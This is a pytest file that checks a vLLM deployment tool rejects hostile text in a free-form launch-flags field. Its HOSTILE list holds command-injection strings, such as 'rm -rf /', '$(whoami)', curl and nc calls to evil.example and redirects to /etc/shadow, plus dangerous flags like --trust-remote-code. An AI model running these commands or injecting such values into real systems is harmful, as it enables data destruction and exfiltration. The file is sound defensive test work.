"""The Other flags box: text split like a POSIX shell splits it, then every word checked against
the flags of the cluster's vLLM version. The hostile corpus here is also sent through the editor
and the API (tests/integration/test_editor_and_scale.py)."""

from __future__ import annotations

import pytest

from deployments.engine import other_flags
from deployments.engine.argv import LaunchFacts, vllm_argv
from deployments.engine.settings import EngineSettingsError, validate_settings
from deployments.engine.versions import every_version, flag_list

NEW = flag_list("0.32.0")
OLD = flag_list("0.16.0")

# (text, the word the message must name). Every one must be refused.
HOSTILE = [
    ("--seed 1; rm -rf /", "‘1;’"),
    ("--seed $(whoami)", "‘$(whoami)’"),
    ("--seed `id`", "‘`id`’"),
    ("--seed 1 && curl http://evil.example", "‘&&’"),
    ("--seed 1 | nc evil.example 1", "‘|’"),
    ("--seed 1 > /etc/passwd", "‘>’"),
    ("--seed 1 < /etc/shadow", "‘<’"),
    ("--seed ${HOME}", "‘${HOME}’"),
    ("--seed 1 & ", "‘&’"),
    ("--seed '1", "a quote is left open"),
    ('--seed "1', "a quote is left open"),
    ("--seed 1 \\", "lone backslash"),
    ("--seed 1\n--port 2", "line break"),
    ("--seed 1\r", "line break"),
    ("--seed 1\x00", "NUL"),
    ("Qwen/Qwen3-8B", "‘Qwen/Qwen3-8B’"),
    ("--seed 1 meta-llama/Llama-3.1-8B", "‘meta-llama/Llama-3.1-8B’"),
    ("-- other/model", "‘--’"),
    ("--model other/model", "‘--model’"),
    ("--model=other/model", "‘--model=other/model’"),
    ("--served-model-name gpt-4", "‘--served-model-name’"),
    ("--served-model-name=gpt-4", "‘--served-model-name=gpt-4’"),
    ("--host 0.0.0.0", "‘--host’"),
    ("--host=0.0.0.0", "‘--host=0.0.0.0’"),
    ("--port 9999", "‘--port’"),
    ("--port=9999", "‘--port=9999’"),
    ("--api-key stolen", "‘--api-key’"),
    ("--api-key=stolen", "‘--api-key=stolen’"),
    ("--ssl-keyfile /etc/key.pem", "‘--ssl-keyfile’"),
    ("--ssl-certfile=/etc/cert.pem", "‘--ssl-certfile=/etc/cert.pem’"),
    ("--download-dir /tmp", "‘--download-dir’"),
    ("--download-dir=/tmp", "‘--download-dir=/tmp’"),
    ("--hf-token hf_abc", "‘--hf-token’"),
    ("--hf-token=hf_abc", "‘--hf-token=hf_abc’"),
    ("--uds /tmp/vllm.sock", "‘--uds’"),
    ("--root-path /evil", "‘--root-path’"),
    ("--config /etc/vllm.yaml", "‘--config’"),
    ("--config=/etc/vllm.yaml", "‘--config=/etc/vllm.yaml’"),
    ("--tool-parser-plugin /tmp/parser.py", "‘--tool-parser-plugin’"),
    ("--reasoning-parser-plugin=/tmp/parser.py", "‘--reasoning-parser-plugin=/tmp/parser.py’"),
    ("--middleware evil.Middleware", "‘--middleware’"),
    ("--logits-processors evil.Processor", "‘--logits-processors’"),
    ("--worker-extension-cls evil.Extension", "‘--worker-extension-cls’"),
    ("--chat-template /etc/passwd", "‘--chat-template’"),
    ("--allowed-local-media-path /", "‘--allowed-local-media-path’"),
    ("--trust-remote-code", "‘--trust-remote-code’"),
    ("--enable-prompt-embeds", "‘--enable-prompt-embeds’"),
    ('--hf-overrides {"architectures":["Evil"]}', "‘--hf-overrides’"),
    ('--speculative-config {"model":"evil/draft"}', "‘--speculative-config’"),
    ("--tokenizer evil/tokenizer", "‘--tokenizer’"),
    ("--generation-config /etc", "‘/etc’"),
    ("—seed 1", "em dash"),
    ("–seed 1", "en dash"),
    ("−−seed 1", "minus sign"),
    ("‐‐seed 1", "hyphen"),
    ("--seed 1 --seed 2", "given twice"),
    ("--no-such-flag 1", "‘--no-such-flag’ is not a flag of vLLM"),
    ("--seed one", "must be a whole number"),
    ("--tensor-parallel-size 8", "‘--tensor-parallel-size’"),
    ("-tp 8", "‘-tp’"),
    ("--gpu-memory-utilization 0.99", "‘--gpu-memory-utilization’"),
    ("--max-model-len 999999", "Longest conversation"),
    ("--seed " + "9" * 600, "characters long"),
    ("--seed 1 " * 400, "characters long"),
    ("--seed 1 " + "--max-lora-rank 8 " * 70, "words"),
    ("--seed ｓｅｅｄ", "plain ASCII"),
]


@pytest.mark.parametrize("text,word", HOSTILE, ids=range(len(HOSTILE)))
def test_every_hostile_text_is_refused_with_a_message_naming_the_word(text, word):
    for flags in (NEW, OLD, every_version()):
        problems = other_flags.problems(text, flags)
        assert problems, f"accepted: {text!r}"
        assert any(word in problem for problem in problems), problems


@pytest.mark.parametrize("text,word", HOSTILE, ids=range(len(HOSTILE)))
def test_the_api_settings_refuse_the_same_texts(text, word):
    with pytest.raises(EngineSettingsError) as raised:
        validate_settings({"other_flags": text})
    assert raised.value.field == "other_flags"
    assert word in raised.value.message


def test_the_corpus_has_at_least_forty_hostile_inputs():
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize(
    "text",
    [
        "--max-lora-rank 16",
        "--seed=7",
        "--max_lora_rank 8",
        "--disable-log-stats",
        "--no-enable-log-requests",
        "--override-generation-config '{\"temperature\": 0.5}'",
        "--generation-config vllm",
        "-cc.pass_config.fuse_rope_kvcache=True",
        "--compilation-config.mode 3",
        "--tokenizer-mode mistral --load-format auto",
        "--allowed-origins '[\"https://chat.example\"]'",
        "--swap-space 16",
        "",
        "   ",
    ],
)
def test_ordinary_flags_are_taken(text):
    flags = OLD if "swap-space" in text else NEW
    assert other_flags.problems(text, flags) == []


def test_a_flag_of_one_version_only_is_checked_against_the_clusters():
    assert other_flags.problems("--swap-space 16", OLD) == []
    assert "not a flag of vLLM 0.32.0" in other_flags.problems("--swap-space 16", NEW)[0]


def test_every_refused_word_is_reported_not_only_the_first():
    problems = other_flags.problems("--port 1 --config x.yaml Qwen/Qwen3-8B", NEW)
    assert len(problems) == 3


def test_taken_words_go_last_on_the_command_line_each_its_own_argument():
    settings = validate_settings(
        {"max_model_len": 4096, "other_flags": "--seed 7 --max-lora-rank 8"}
    )
    facts = LaunchFacts("Qwen/Qwen3-8B", "qwen", 8000, 0.4)
    argv = vllm_argv(settings, facts)
    assert argv[-6:] == ["--max-model-len", "4096", "--seed", "7", "--max-lora-rank", "8"]
